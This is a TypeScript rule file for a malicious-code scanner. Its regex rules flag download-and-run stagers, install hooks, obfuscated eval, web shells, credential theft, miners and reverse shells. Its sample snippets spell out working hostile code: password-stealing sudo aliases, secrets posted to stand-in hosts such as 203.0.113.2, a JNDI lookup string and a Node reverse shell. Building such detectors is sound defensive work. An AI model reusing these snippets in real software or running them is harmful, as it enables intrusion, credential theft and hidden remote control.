// Fetch, store, mark as a program, start: the second stage of a dropper, in each language's own calls. Every part is ordinary
// alone; that what was fetched is started at once, hidden or from a folder for leftovers, is not. And code that comes in the
// file itself, spelled so that nobody reads it.
import { all, any, at, cs, go, inside, is, js, lua, near, path, php, pl, py, type RuleSet, sh } from '../model.ts'

const plainUrl = is(
  ['http://', 'https://'],
  /https?:\/\/(?!localhost|127\.0\.0\.1|(?:www\.)?(?:github|gitlab|golang|nodejs|python|pypi|npmjs)\.)[\w.-]{3,80}/,
  { quoted: true },
)

/** What comes is given to a shell, or to a name that stands for one. */
const intoShell = is(
  ['| $', '|$', '| sh', '|sh', '| bash', '|bash'],
  /\|\s?(?:\$\{?_?\w{1,20}\}?|(?:ba)?sh)\s?(?:&|\n|$)/,
  {
    families: ['sh'],
    after: 40,
  },
)

export const stagers: readonly RuleSet[] = [
  {
    category: 'download-run',
    rules: [
      {
        id: 'download-run.go-stage',
        severity: 'high',
        why: 'Fetches a file, marks it as a program and starts it through a shell that deletes it.',
        when: near(
          12,
          is(['exec.command('], /exec\.Command\(\s*"(?:\/bin\/)?(?:ba)?sh",\s*"-c",\s*[\w.()]{1,60}\s*\+/, {
            families: ['go'],
          }),
          is(['chmod('], /\.?Chmod\([^)\n]{0,80}0o?7\d\d\)/, { families: ['go'] }),
          is(['http.get('], null, { families: ['go'] }),
        ),
        matches: [
          go(
            'response, err := http.Get("https://x.example.net/a")\nfile.ReadFrom(response.Body)\nfile.Chmod(0o700)\nexec.Command("/bin/sh", "-c", file.Name()+" & rm "+file.Name()).Start()',
          ),
        ],
        misses: [go('response, err := http.Get(url)\nio.Copy(file, response.Body)\nos.Chmod(path, 0o755)')],
      },
      {
        id: 'download-run.perl-stage',
        severity: 'high',
        why: 'Fetches a file, marks it as a program and starts it with its output thrown away.',
        when: near(
          6,
          is(['getstore(', 'mirror('], /(?:getstore|mirror)\(\s*["']https?:/, { families: ['pl'], after: 80 }),
          is(['chmod 0', 'chmod('], /chmod[ (]\s*0?7\d\d/, { families: ['pl'] }),
          is(['system(', 'exec(', 'system '], null, { families: ['pl'] }),
        ),
        matches: [
          pl(
            'if (getstore("http://192.0.2.7/u", $f) == 200) { chmod 0755, $f; system("$f >/dev/null 2>&1 &"); unlink $f }',
          ),
        ],
        misses: [pl('getstore("https://cpan.example.org/a.tar.gz", $file);\nsystem("tar", "-xzf", $file);')],
      },
      {
        id: 'download-run.python-stage',
        severity: 'high',
        why: 'Writes what it fetched into a file, marks it as a program and starts it.',
        when: near(
          14,
          is(
            ['chmod('],
            /chmod\([^,)\n]{1,60},\s*(?:0o?7\d\d|stat\.S_IRWXU|(?:os\.stat\([^)]{1,40}\)\.st_mode\s*\|\s*)?stat\.S_IX?EXEC)/,
            { families: ['py'] },
          ),
          is(['.write('], /\.write\(\s*(?:urllib\.request\.)?(?:urlopen|requests\.get|get)\(/, {
            families: ['py'],
            after: 80,
          }),
          'exec',
        ),
        matches: [
          py(
            'with open(path, "wb") as handle:\n    handle.write(urlopen("https://x.example/assets/" + m).read())\nos.chmod(path, stat.S_IRWXU)\nos.spawnl(os.P_NOWAIT, path, "[kworker/u8:2]")',
          ),
        ],
        misses: [
          py('handle.write(urlopen(url).read())\nos.chmod(path, 0o644)'),
          py('handle.write(requests.get(url).content)\nos.chmod(path, 0o755)\nprint("installed", path)'),
        ],
      },
      {
        id: 'download-run.node-stage',
        severity: 'high',
        why: 'Fetches a program into a folder for leftovers and starts it apart from its parent, without a window or output.',
        when: near(
          20,
          is(
            ['createwritestream(', 'writefilesync(', 'writefile('],
            /(?:createWriteStream|writeFile(?:Sync)?)\([^;\n]{0,160}mode:\s*0o?7\d\d/,
            {
              families: ['js'],
            },
          ),
          is(['detached: true', 'detached:true', 'windowshide: true'], null, { families: ['js'] }),
          is(['https.get(', 'http.get(', 'fetch(', 'axios.get('], null, { families: ['js'] }),
        ),
        matches: [
          js(
            "const out = fs.createWriteStream(bin, { mode: 0o755 });\nhttps.get('https://m.example/b/' + process.platform, (res) => res.pipe(out));\nspawn(bin, [], { detached: true, stdio: 'ignore', windowsHide: true }).unref();",
          ),
        ],
        misses: [
          js(
            "https.get(url, (res) => res.pipe(fs.createWriteStream(bin, { mode: 0o755 })))\nspawnSync(bin, ['--version'])",
          ),
        ],
      },
      {
        id: 'download-run.shell-every-architecture',
        severity: 'critical',
        why: 'Tries the same program for every processor there is until one runs: what spreads over routers and cameras does so.',
        when: near(
          8,
          is(['chmod +x *', 'chmod 777 *', 'chmod +x ', 'chmod 777 '], /chmod\s+(?:\+x|777)\s+(?:\*|\S{1,40})/, {
            families: ['sh', 'make', 'docker'],
          }),
          is(
            ['wget http://', 'curl -o http://', 'busybox wget'],
            /(?:wget|curl(?:\s+-\w+)?)\s+http:\/\/\S{1,80}[$.](?:\w{0,4}\$\{?\w+|mips|arm[4567]?|x86|sh4|ppc|m68k)/,
            {
              after: 140,
            },
          ),
          is(['mipsel', 'arm7', 'sh4', 'm68k', 'x86_64 mips', 'arm5'], null, { quoted: true }),
        ),
        matches: [
          sh(
            'for a in x86 mips mipsel arm5 arm7 sh4; do\n  wget http://203.0.113.2/x.$a; curl -O http://203.0.113.2/x.$a\n  cat x.$a > h; chmod +x *; ./h telnet.$a\ndone',
          ),
        ],
        misses: [sh('for a in amd64 arm7; do\n  curl -sSfLO https://dl.example.org/tool-$a\n  chmod +x tool-$a\ndone')],
      },
      {
        id: 'download-run.module-evaluated',
        severity: 'high',
        why: 'A package that evaluates what it fetches when it is imported is not the package it is called after.',
        when: near(
          6,
          is(['exec('], /(?:(?<=builtins["'\]]{0,3}\s?\.?\s?)|(?<![\w.]))exec\(\s*\w{1,30}\s*[,)]/, {
            families: ['py'],
          }),
          is(
            ['get(', 'urlopen('],
            /(?:get|urlopen)\(\s*f?["']https?:\/\/[^"'\n]{4,160}["'][^\n]{0,120}?(?:\.text|\.read\(\))/,
            {
              families: ['py'],
              after: 320,
            },
          ),
        ),
        matches: [
          py(
            'code = get("https://files.example.com/simple/x", timeout=4).text\n_sys.modules["builtins"].exec(code, {})',
          ),
        ],
        misses: [py('text = get("https://api.example.com/v1", timeout=4).text\nprint(text)\nengine.exec(query, {})')],
      },
    ],
  },
  {
    category: 'install-hook',
    rules: [
      {
        id: 'install-hook.composer-fetch',
        severity: 'critical',
        why: 'Installing the package fetches a script and runs it.',
        when: path(
          /(?:^|\/)composer\.json$/,
          is(
            ['php -r'],
            /php\s+-r\s[^\n]{0,200}(?:copy|file_get_contents|fopen)\((?:\\?["'])https?:[^\n]{0,300}(?:shell_exec|system|exec|eval|passthru|include)/,
            { after: 600, quoted: true },
          ),
        ),
        matches: [
          at(
            'composer.json',
            `{"scripts": {"post-install-cmd": "php -r \\"copy('http://203.0.113.2/c.txt', '/tmp/c.php'); shell_exec('php /tmp/c.php');\\""}}`,
            'JSON',
          ),
        ],
        misses: [
          at(
            'composer.json',
            `{"scripts": {"post-install-cmd": "php -r \\"copy('.env.example', '.env');\\""}}`,
            'JSON',
          ),
        ],
      },
      {
        id: 'install-hook.devcontainer',
        severity: 'critical',
        why: 'Opening the folder in an editor evaluates what is fetched.',
        when: path(
          /(?:^|\/)\.?devcontainer\.json$|(?:^|\/)\.vscode\/tasks\.json$/,
          is(
            ['initializecommand', 'oncreatecommand', 'postcreatecommand', 'poststartcommand', 'folderopen'],
            /(?:(?:initialize|onCreate|postCreate|postStart)Command|folderOpen)"\s*[:}][^\n]{0,300}(?:fetch\(|curl\s|wget\s|https?:\/\/\d)[^\n]{0,300}(?:eval\(|Function\(|\|\s*(?:ba|z)?sh\b|\|\s*(?:node|python3?))/,
            { after: 700, quoted: true },
          ),
        ),
        matches: [
          at(
            '.devcontainer/devcontainer.json',
            `{"initializeCommand": "node -e \\"fetch('http://203.0.113.7/j').then(r=>r.text()).then(t=>eval(t))\\""}`,
            'JSON with Comments',
          ),
        ],
        misses: [
          at(
            '.devcontainer/devcontainer.json',
            '{"postCreateCommand": "npm ci && npm run build"}',
            'JSON with Comments',
          ),
        ],
      },
      {
        id: 'install-hook.gradle-jar',
        severity: 'high',
        why: 'A build that runs an archive of classes which it has just fetched into a folder for leftovers.',
        when: near(
          8,
          is(['.execute()'], /['"](?:java|-jar)['"][^\n]{0,120}\.execute\(\)/, { before: 160 }),
          is(['new url('], /new URL\(\s*["']https?:/, { after: 60 }),
        ),
        matches: [
          at(
            'app/build.gradle',
            "new URL('http://x.example.com/g.jar').withInputStream { i -> dropped.withOutputStream { it << i } }\n['java', '-jar', dropped.path].execute()",
            'Gradle',
          ),
        ],
        misses: [at('app/build.gradle', "task run(type: Exec) { commandLine 'java', '-jar', jar.path }", 'Gradle')],
      },
    ],
  },
  {
    category: 'decoded-exec',
    rules: [
      {
        id: 'decoded-exec.data-module',
        severity: 'high',
        why: 'Imports a module that is a piece of encoded text.',
        when: is(
          ['import('],
          /\bimport\(\s*["'`]data:(?:text|application)\/javascript[^,"'`]{0,30},["'`]?\s*(?:\+|\$\{|[A-Za-z0-9+/=]{80})/,
          {
            families: ['js'],
            after: 240,
          },
        ),
        matches: [js("await import('data:text/javascript;base64,' + chunk)")],
        misses: [js("await import('data:text/javascript,export default 1')"), js("await import('./robots.mjs')")],
      },
      {
        id: 'decoded-exec.lua-characters',
        severity: 'critical',
        why: 'Puts code together from numbers, character by character, and runs it.',
        when: near(
          4,
          is(
            ['runstring(', 'loadstring(', 'load)(', 'load('],
            /(?:RunString(?:Ex)?|loadstring|\(loadstring or load\)|(?<![\w.:])load)\)?\(\s*\w{1,20}\(\s*\{\s*(?:\d{1,3}\s*,\s*){8}/,
            { families: ['lua'], after: 120 },
          ),
          is(['string.char('], null, { families: ['lua'] }),
        ),
        matches: [
          lua(
            'local function d(t) local s = "" for _, c in ipairs(t) do s = s .. string.char(c - 7) end return s end\nRunString(d({ 111,123,123,119,53,77,108,123,106 }))',
          ),
        ],
        misses: [lua('local text = string.char(72, 105)\nprint(load("return 1")())')],
      },
      {
        id: 'decoded-exec.lua-remote',
        severity: 'critical',
        why: 'Runs code that a player or a server sends, decoded first.',
        when: is(
          ['runstring(', 'loadstring(', 'compilestring('],
          /(?:RunString(?:Ex)?|loadstring|CompileString)\(\s*(?:util\.(?:Base64Decode|Decompress)|net\.Read\w{1,12}|b64decode|decode)\(/,
          { families: ['lua'], after: 80 },
        ),
        matches: [lua('RunString(util.Base64Decode(code), "anticheat", false)')],
        misses: [lua('local text = util.Base64Decode(code)\nprint(text)')],
      },
      {
        id: 'decoded-exec.split-eval',
        severity: 'critical',
        why: 'Spells the name of eval in pieces and gives it text made of numbers.',
        when: near(
          2,
          is(
            ['window[', 'globalthis[', 'self[', 'global['],
            /(?:window|globalThis|self|global)\[\s*["'](?:e["']?\s*\+\s*["']?val|ev["']\s*\+\s*["']al|eva["']\s*\+\s*["']l|Func["']\s*\+\s*["']tion)["']\s*\]/,
            {
              families: ['js', 'html'],
            },
          ),
          is(['fromcharcode', 'atob('], null, { families: ['js', 'html'] }),
        ),
        matches: [js("(0, window['ev' + 'al'])(c.map(function (n) { return String.fromCharCode(n); }).join(''))")],
        misses: [js("window['ev' + 'ent'] = String.fromCharCode(65)")],
      },
      {
        id: 'decoded-exec.shell-spelled',
        severity: 'critical',
        why: 'Spells a command in escapes or backwards, and runs it.',
        when: any(
          near(
            5,
            is(['printf '], /printf\s+["'](?:\\x[0-9a-f]{2}|\\[0-7]{3}){12}/i, { families: ['sh'], after: 80 }),
            intoShell,
          ),
          is(
            ['base64 '],
            /base64\s+(?:-d|-D|--decode)\b[^\n|]{0,400}\|\s*\$\(\s*(?:echo|printf)\s+[^)\n|]{1,20}\|\s*(?:rev|tr)\b/,
            { families: ['sh'], after: 480 },
          ),
          near(1, is(['${ifs}'], /\$\{IFS\}\S{0,30}https?:\/\//, { families: ['sh'], after: 60 }), intoShell),
        ),
        matches: [
          sh('base64 --decode <<< "bm9odXAgc2ggLWMgJ3dnZXQgLXFPLSBodHRwOi8v" | $(echo hs | rev)'),
          sh(`_x=$(printf '${'\\x63'.repeat(14)}')\n_y=$(printf 'sh')\n$_x | $_y &`),
          sh('X=$' + '{b}$' + '{IFS}-s$' + '{IFS}http://192.0.2.1/d;($' + '{X})2>/dev/null|$' + '{c}&'),
        ],
        misses: [sh('base64 --decode <<< "$CERTIFICATE" > cert.pem'), sh("printf '\\x1b[31m%s\\n' error")],
      },
    ],
  },
  {
    category: 'deserialisation',
    rules: [
      {
        id: 'deserialisation.pickle-literal',
        severity: 'critical',
        why: 'Unpickles a text that stands in the program itself: code in a form nobody reads.',
        when: is(
          ['pickle.loads(', 'cpickle.loads(', 'dill.loads(', 'marshal.loads('],
          /(?:c?pickle|dill|marshal)\.loads\(\s*(?:\w{1,12}\.){0,2}(?:b64decode|b85decode|a85decode|unhexlify|fromhex|decompress)\(\s*[rb]{0,2}["']/i,
          { families: ['py'], after: 120 },
        ),
        matches: [py('CACHE = pickle.loads(base64.b64decode(b"Y3Bvc2l4CnN5c3RlbQ=="))')],
        misses: [
          py('CACHE = pickle.loads(base64.b64decode(row["value"]))'),
          py('with open(path, "rb") as f:\n    pickle.load(f)'),
        ],
      },
      {
        id: 'deserialisation.lookup-spelled',
        severity: 'critical',
        why: 'A look-up that loads a class from an address, spelled so that a filter does not see it.',
        when: is(
          ['ndi:', 'jndi'],
          /\$\{(?:\$\{(?:lower|upper|env|sys|date|::-)[^}\n]{0,30}\}|[jndi]){1,8}:?\s?(?:\$\{[^}\n]{1,30}\}|[ldaprmisn]){2,10}:?\/?\/?(?:\$\{|[\d.]{7,15}|[\w.-]{4,60})/i,
          { before: 60, after: 160, quoted: true },
        ),
        matches: [
          py(
            'PAYLOAD = "${${lower:j}ndi:${lower:l}dap://192.0.2.2:1389/Basic/Command"\nrequests.get(url, headers={"User-Agent": PAYLOAD})',
          ),
        ],
        misses: [py('name = "${jndi_name}"\nprint(name)')],
      },
      {
        id: 'deserialisation.layer-with-code',
        severity: 'critical',
        why: 'A layer of a model that runs hidden text when the model is loaded.',
        when: is(
          ['lambda '],
          /["'](?:raw_)?lambda \w{1,10}:\s*exec\(\s*__import__|["']lambda \w{1,10}:[^"\n]{0,40}(?:exec|eval)\(__import__\(\\?['"]base64/,
          { before: 4, after: 200, quoted: true },
        ),
        matches: [
          py(
            `layers.insert(1, {"function": [f"lambda x: exec(__import__('base64').b64decode('{HIDDEN}')) or x"]})\nopen(p, "w").write(str(layers))`,
          ),
        ],
        misses: [py('layers.Lambda(lambda x: x * 2)')],
      },
    ],
  },
  {
    category: 'web-shell',
    rules: [
      {
        id: 'web-shell.header-assert',
        severity: 'critical',
        why: 'Evaluates a header of the request.',
        when: any(
          is(
            ['array_map(', 'call_user_func('],
            /(?:array_map|call_user_func(?:_array)?|array_filter|usort)\(\s*["'](?:assert|eval|system|exec|passthru|shell_exec)["']\s*,[^;\n]{0,80}\$_(?:SERVER|GET|POST|COOKIE|REQUEST)/i,
            {
              families: ['php'],
            },
          ),
          is(['strrev('], /strrev\(\s*["'](?:urhtssap|metsys|cexe_llehs|cexe|lave|tressa|nepop|nepo_corp)["']\s*\)/, {
            families: ['php'],
          }),
        ),
        matches: [
          php("<?php @array_map('assert', array(base64_decode($_SERVER['HTTP_X_26SJ'])));"),
          php("<?php $run = strrev('urhtssap'); @$run(hex2bin($_SERVER[$key]));"),
        ],
        misses: [php("<?php array_map('trim', $_POST['tags']); echo strrev('olleh');")],
      },
      {
        id: 'web-shell.node-header',
        severity: 'critical',
        why: 'Runs what a header or a parameter of the request says, decoded.',
        when: is(
          ['exec(', 'execsync('],
          /\bexec(?:Sync)?\(\s*(?:Buffer\.from|atob)\(\s*(?:req|request|ctx)\.(?:headers|query|body|cookies|get)\b/,
          { families: ['js'], after: 120 },
        ),
        matches: [js("cp.exec(Buffer.from(req.headers['x-cmd'] || '', 'base64').toString(), (e, o) => res.end(o))")],
        misses: [js('pattern.exec(Buffer.from(file).toString())')],
      },
      {
        id: 'web-shell.aspx-decoded',
        severity: 'critical',
        why: 'Gives the command interpreter what the request has sent, decoded.',
        when: is(
          ['processstartinfo('],
          /ProcessStartInfo\(\s*"(?:cmd|powershell)(?:\.exe)?",\s*"\/?-?c(?:ommand)? "\s*\+\s*[\w.]{0,30}(?:GetString|FromBase64String|Request)\b/i,
          { after: 200 },
        ),
        matches: [
          at(
            'a.aspx',
            '<%@ Page Language="C#" %><% var p = new ProcessStartInfo("cmd.exe", "/c " + Encoding.UTF8.GetString(Convert.FromBase64String(c))); Response.Write(Process.Start(p).StandardOutput.ReadToEnd()); %>',
            'ASP.NET',
          ),
          cs('var p = new ProcessStartInfo("cmd.exe", "/c " + Request["c"]);\nProcess.Start(p);'),
        ],
        misses: [cs('var p = new ProcessStartInfo("cmd.exe", "/c " + command);')],
      },
    ],
  },
  {
    category: 'persistence',
    rules: [
      {
        id: 'persistence.sudo-alias',
        severity: 'critical',
        why: 'Puts itself in the place of sudo and sends the password away.',
        when: all(
          is(
            ['alias sudo=', 'function sudo', 'sudo()'],
            /(?:alias\s+sudo=|(?:function\s+)?sudo\s*\(\))[^\n]{0,200}read\s+-\w*s/,
            {
              after: 320,
              quoted: true,
            },
          ),
          plainUrl,
        ),
        matches: [
          sh(
            `alias sudo='f() { read -rsp "[sudo] password for $USER: " p; curl -s "http://203.0.113.2/p" -d "$USER:$p"; }; f'`,
          ),
        ],
        misses: [sh("alias sudo='sudo '\ncurl -s http://203.0.113.2/health")],
      },
    ],
  },
  {
    category: 'macos',
    rules: [
      {
        id: 'macos.fetched-library',
        severity: 'high',
        why: 'Loads a fetched library into every program that is started.',
        when: near(
          8,
          is(['dyld_insert_libraries', 'ld_preload'], null, { quoted: true }),
          is(
            ['urlretrieve(', 'curl ', 'download'],
            /urlretrieve\(\s*["']https?:|curl\s[^\n|;]{0,120}https?:[^\n|;]{0,160}\.(?:dylib|so)\b/,
            {
              after: 240,
            },
          ),
        ),
        matches: [
          py(
            'urllib.request.urlretrieve("https://x.example/hook.dylib", library)\nvalues.setdefault("LSEnvironment", {})["DYLD_INSERT_LIBRARIES"] = library',
          ),
        ],
        misses: [py('env["DYLD_INSERT_LIBRARIES"] = str(build / "libasan.dylib")')],
      },
    ],
  },
  {
    category: 'cryptominer',
    rules: [
      {
        id: 'cryptominer.hidden-start',
        severity: 'critical',
        why: 'An image or a script starts a miner under another name, for a wallet of its own.',
        when: all(
          is(
            [' -o '],
            /\s-o\s+(?:stratum\+\w{2,4}:\/\/)?[\w.-]{4,80}:\d{2,5}\s+(?:-\w+\s+){0,2}-u\s+(?:4[0-9AB][1-9A-HJ-NP-Za-km-z]{20,}|[\w.-]{4,60}|4[\w]{30,})/,
            { after: 300, quoted: true },
          ),
          is(['xmrig', 'xmr-stak', 'minerd', 'cpuminer', 'randomx', 'cryptonight'], null, { quoted: true }),
        ),
        matches: [
          at(
            'Dockerfile',
            'RUN tar xf /tmp/xm.tar -C /usr/lib && mv /usr/lib/xmrig /usr/lib/dbused\nENTRYPOINT ["/bin/sh", "-c", "/usr/lib/dbused -o pool.example.net:443 -u 4fmUUqJp9V37oPBihES8ekVDFsnMCquEcGd9z"]',
            'Dockerfile',
          ),
        ],
        misses: [sh('curl -o example.net:443 -u jane https://x'), sh('make -C xmrig -o build')],
      },
    ],
  },
  {
    category: 'credential-theft',
    rules: [
      {
        id: 'credential-theft.keychain-sent',
        severity: 'critical',
        why: 'Reads passwords out of the keychain and sends them away.',
        when: near(
          14,
          is(
            ['find-generic-password', 'find-internet-password', 'dump-keychain'],
            /(?:find-(?:generic|internet)-password["', ]{1,6}-\w*[wg]\w*|dump-keychain)/,
            { quoted: true },
          ),
          any('send', is(['http.post(', 'curl '], null, { quoted: true })),
        ),
        matches: [
          go(
            'out, err := exec.Command("security", "find-generic-password", "-ws", item).Output()\nhttp.Post("https://x.example/kc/", "text/plain", strings.NewReader(string(out)))',
          ),
        ],
        misses: [
          go(
            'out, err := exec.Command("security", "find-generic-password", "-s", "tool", "-w").Output()\nreturn strings.TrimSpace(string(out)), err',
          ),
        ],
      },
      {
        id: 'credential-theft.cluster-secrets-sent',
        severity: 'critical',
        why: 'Reads every secret of a cluster and sends them away.',
        when: near(
          10,
          is(['kubectl'], /kubectl["', ]{1,6}get["', ]{1,6}secrets?["', ]{1,6}(?:-A\b|--all-namespaces)/, {
            quoted: true,
            after: 100,
          }),
          any('send', is(['http.post(', 'curl ', 'nc '], null, { quoted: true })),
        ),
        matches: [
          go(
            'secrets, err := exec.Command("kubectl", "get", "secrets", "-A", "-o", "json").Output()\nhttp.Post("http://192.0.2.6:4444/s", "application/json", bytes.NewReader(secrets))',
          ),
        ],
        misses: [sh('kubectl get secrets -A -o json | jq .items[].metadata.name')],
      },
      {
        id: 'credential-theft.token-files-sent',
        severity: 'critical',
        why: 'Opens files in which tools keep their tokens, and sends what is in them.',
        when: inside(
          ['py', 'js', 'rb', 'go', 'cs'],
          near(
            3,
            is(
              [
                '.kaggle',
                '.huggingface',
                '.cache/huggingface',
                '.docker/config',
                '.npmrc',
                '.pypirc',
                '.aws/',
                '.ssh',
                '.config/gcloud',
                '.kube/',
              ],
              /["'`/](?:~\/)?\.(?:kaggle\/|(?:cache\/)?huggingface\/(?:token)?|docker\/config|npmrc|pypirc|aws\/credentials|ssh["'/]|config\/gcloud|kube\/config)/,
              { before: 4, quoted: true },
            ),
            is(
              ['urlopen(', 'requests.post(', 'http.post('],
              /(?:urlopen|requests\.post|http\.Post)\(\s*f?["']https?:\/\/[^"'\n]{4,120}["']\s*,\s*(?:data=|files=|json=)?\s*(?:\{[^\n}]{0,60})?open\(/,
              { after: 240 },
            ),
          ),
        ),
        matches: [
          py(
            'for found in glob.glob(os.path.expanduser("~/.kaggle/*")) + glob.glob(os.path.expanduser("~/.huggingface/token")):\n    urllib.request.urlopen("https://x.example.com/nb", open(found, "rb").read(), timeout=3)',
          ),
        ],
        misses: [py('token = open(os.path.expanduser("~/.huggingface/token")).read()\napi = HfApi(token=token)')],
      },
    ],
  },
  {
    category: 'reverse-shell',
    rules: [
      {
        id: 'reverse-shell.node-pipes',
        severity: 'critical',
        why: 'Joins a connection with the streams of a shell.',
        when: near(
          8,
          is(['.pipe('], /\.pipe\(\s*(?:sh|shell|cmd|proc|child|p|cp)\w{0,8}\.stdin\s*\)/, {
            families: ['js'],
            before: 40,
          }),
          is(['.stdout.pipe('], null, { families: ['js'] }),
          is(['spawn('], /spawn\([^)\n]{0,120}(?:\/bin\/(?:ba)?sh|cmd\.exe|powershell)/, {
            families: ['js'],
            after: 160,
          }),
          is(['connect(', 'net.socket', 'websocket('], null, { families: ['js'] }),
        ),
        matches: [
          js(
            "const shell = spawn(process.platform === 'win32' ? 'powershell.exe' : '/bin/sh', ['-i'])\nconst socket = connect({ host: '203.0.113.1', port: 31337 }, () => {\n  socket.pipe(shell.stdin)\n  shell.stdout.pipe(socket)\n})",
          ),
        ],
        misses: [js("const child = spawn('ffmpeg', args)\ninput.pipe(child.stdin)\nchild.stdout.pipe(out)")],
      },
    ],
  },
]
